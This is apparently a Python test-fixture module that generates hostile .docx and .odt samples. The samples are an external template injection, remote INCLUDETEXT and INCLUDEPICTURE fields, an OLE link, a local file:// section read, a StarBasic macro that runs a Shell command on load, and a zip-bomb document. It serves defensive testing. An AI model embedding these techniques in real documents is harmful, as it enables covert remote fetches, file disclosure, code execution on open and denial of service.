"""Office files that would like to run something, fetch something, read something or fill the memory."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
_TIPO = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml."
_ODF = "urn:oasis:names:tc:opendocument:xmlns:"


def _zip(ficheros: dict[str, str | bytes]) -> bytes:
    salida = io.BytesIO()
    with zipfile.ZipFile(salida, "w") as comprimido:
        for nombre, contenido in ficheros.items():
            metodo = zipfile.ZIP_STORED if nombre == "mimetype" else zipfile.ZIP_DEFLATED
            comprimido.writestr(nombre, contenido, metodo)
    return salida.getvalue()


def relaciones(*filas: tuple[str, str, str, bool]) -> str:
    """Return a part of relations: (key, type, target, whether it is outside)."""
    dentro = "".join(
        f'<Relationship Id="{clave}" Type="{_TIPO}{tipo}" Target="{destino}"'
        f"{' TargetMode=' + chr(34) + 'External' + chr(34) if fuera else ''}/>"
        for clave, tipo, destino, fuera in filas
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{_RELS}">{dentro}</Relationships>'


def docx(cuerpo: str, **mas: str | bytes) -> bytes:
    """Return a Word file with this body; other parts by their name, with ``__`` for ``/``."""
    partes = {nombre.replace("__", "/").replace("_punto_", "."): v for nombre, v in mas.items()}
    tipos = (
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        f'<Override PartName="/word/document.xml" ContentType="{_WORD}document.main+xml"/>'
    )
    return _zip(
        {
            "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org'
            f'/package/2006/content-types">{tipos}</Types>',
            "_rels/.rels": relaciones(("rId1", "officeDocument", "word/document.xml", False)),
            "word/document.xml": f'<?xml version="1.0"?><w:document {W} {R}><w:body>{cuerpo}</w:body></w:document>',
            **partes,
        }
    )


def parrafo(texto: str) -> str:
    return f"<w:p><w:r><w:t>{texto}</w:t></w:r></w:p>"


def odt(cuerpo: str, **mas: str) -> bytes:
    """Return an OpenDocument text with this body."""
    espacios = " ".join(
        f'xmlns:{n}="{_ODF}{n}:1.0"' for n in ("office", "text", "table", "script", "style")
    )
    espacios += f' xmlns:draw="{_ODF}drawing:1.0" xmlns:svg="{_ODF}svg-compatible:1.0"'
    espacios += (
        ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:dc="http://purl.org/dc/elements/1.1/"'
    )
    partes = {nombre.replace("__", "/").replace("_punto_", "."): v for nombre, v in mas.items()}
    entradas = "".join(
        f'<manifest:file-entry manifest:full-path="{n}" manifest:media-type="text/xml"/>'
        for n in ("content.xml", *partes)
    )
    mime = "application/vnd.oasis.opendocument.text"
    return _zip(
        {
            "mimetype": mime,
            "content.xml": f'<?xml version="1.0"?><office:document-content {espacios} '
            f'office:version="1.2">{cuerpo}</office:document-content>',
            "META-INF/manifest.xml": f'<?xml version="1.0"?><manifest:manifest xmlns:manifest="{_ODF}manifest:1.0">'
            f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mime}"/>{entradas}'
            "</manifest:manifest>",
            **partes,
        }
    )


def _cuerpo(dentro: str) -> str:
    return f"<office:body><office:text><text:p>Hola</text:p>{dentro}</office:text></office:body>"


def hostiles(url: str, secreto: Path, rastro: Path) -> dict[str, tuple[str, bytes]]:
    """Return (name, bytes) of files that would call ``url``, read ``secreto`` or write ``rastro``."""
    imagen = f'<draw:frame svg:width="5cm" svg:height="5cm"><draw:image xlink:href="{url}/i.png"/></draw:frame>'
    macro = (
        '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" '
        'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;'
        'location=document"/></office:event-listeners></office:scripts>'
    )
    basic = (
        '<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script" '
        'script:name="M" script:language="StarBasic">Sub Main\n'
        f'Shell("/usr/bin/touch {rastro}")\nEnd Sub</script:module>'
    )
    biblioteca = '<?xml version="1.0"?><library:{0} xmlns:library="http://openoffice.org/2000/library" {1}</library:{0}>'
    return {
        "plantilla": (
            "a.docx",
            docx(
                parrafo("Hola"),
                word___rels__document_punto_xml_punto_rels=relaciones(
                    ("rId1", "settings", "settings.xml", False)
                ),
                word__settings_punto_xml=f'<?xml version="1.0"?><w:settings {W} {R}><w:attachedTemplate r:id="rId1"/></w:settings>',
                word___rels__settings_punto_xml_punto_rels=relaciones(
                    ("rId1", "attachedTemplate", f"{url}/p.dotm", True)
                ),
            ),
        ),
        "campo": (
            "a.docx",
            docx(
                parrafo("Hola")
                + f'<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;{url}/t.docx&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
                + f'<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;{url}/f.png&quot; "><w:r><w:t>y</w:t></w:r></w:fldSimple></w:p>'
            ),
        ),
        "ole": (
            "a.docx",
            docx(
                parrafo("Hola")
                + '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
                'Type="Link" ProgID="Word.Document" ShapeID="s" DrawAspect="Content" ObjectID="_1" '
                'r:id="rId1" UpdateMode="Always"/></w:object></w:r></w:p>',
                word___rels__document_punto_xml_punto_rels=relaciones(
                    ("rId1", "oleObject", f"{url}/o.doc", True)
                ),
            ),
        ),
        "macro de Word": (
            "a.docx",
            docx(parrafo("Hola"), word__vbaProject_punto_bin=b"\xd0\xcf\x11\xe0" + bytes(600)),
        ),
        "imagen de fuera": ("a.odt", odt(_cuerpo(f"<text:p>{imagen}</text:p>"))),
        "seccion de fuera": (
            "a.odt",
            odt(
                _cuerpo(
                    f'<text:section text:name="s"><text:section-source xlink:href="{url}/s.odt"/><text:p/></text:section>'
                )
            ),
        ),
        "fichero de la máquina": (
            "a.odt",
            odt(
                _cuerpo(
                    f'<text:section text:name="s"><text:section-source xlink:href="file://{secreto}"/><text:p/></text:section>'
                )
            ),
        ),
        "macro": (
            "a.odt",
            odt(
                macro + _cuerpo(""),
                **{
                    "Basic__script-lc_punto_xml": biblioteca.format(
                        "libraries",
                        '><library:library library:name="Standard" library:link="false"/>',
                    ),
                    "Basic__Standard__script-lb_punto_xml": biblioteca.format(
                        "library",
                        'library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="M"/>',
                    ),
                    "Basic__Standard__M_punto_xml": basic,
                },
            ),
        ),
    }


def bomba() -> bytes:
    """Return a Word file that opens into far more than it is."""
    return docx(parrafo("a" * 60_000_000))
